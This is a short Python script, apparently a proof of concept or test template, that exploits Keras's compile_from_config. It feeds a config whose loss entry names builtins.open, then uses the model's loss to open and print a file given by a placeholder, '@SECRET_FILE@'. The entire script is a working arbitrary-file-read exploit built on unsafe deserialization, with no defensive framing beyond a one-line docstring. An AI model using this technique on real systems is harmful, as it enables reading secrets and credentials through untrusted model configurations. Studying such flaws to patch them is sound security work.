"""compile_from_config turns names into functions."""
import keras
model = keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)])
try:
    model.compile_from_config({"loss": {"module": "builtins", "class_name": "function", "config": "open", "registered_name": "function"}, "optimizer": "sgd", "metrics": None, "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False})
finally:
    print(model.loss("@SECRET_FILE@").read())
